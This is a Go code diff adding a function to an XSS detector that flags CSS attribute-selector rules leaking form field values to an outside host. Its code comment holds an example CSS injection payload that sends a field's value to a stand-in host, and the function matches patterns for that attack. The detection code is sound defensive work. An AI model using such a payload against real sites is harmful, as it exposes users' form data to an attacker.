@@ -3,6 +3,7 @@ package xss
 import (
 	"bytes"
 
+	"github.com/weirnode/weir/attack"
 	"github.com/weirnode/weir/detect/evidence"
 	"github.com/weirnode/weir/detect/lex"
 )
@@ -107,6 +108,23 @@ func leaks(css []byte) bool {
 	}
 	at, _ := lex.First(css, []string{"value^=", "value$=", "value*=", "unicode-range"})
 	return at >= 0
+}
+
+// rules finds rules that ask a foreign host by what fields hold, where a value goes on with a style
+// sheet: }input[value^=k]{background:url(//h.example/k)}
+func rules(data []byte, best *evidence.Tally) {
+	i, _ := lex.First(data[:min(len(data), maxStyle)], []string{"[value^=", "[value$=", "[value*="})
+	if i < 0 || best.Score() >= evidence.Threshold {
+		return
+	}
+	brace := bytes.IndexByte(data[i:min(len(data), i+maxStyle)], '{')
+	if brace < 0 || !external(styleURL(data[i+brace:min(len(data), i+brace+maxStyle)])) {
+		return
+	}
+	var t evidence.Tally
+	t.Reset(attack.XSS, evidence.HTMLAttr)
+	t.Add(&styleLeak, i, brace+1)
+	keep(&t, best)
 }
 
 // styleSheet weighs a style element and returns how many bytes of it were read.
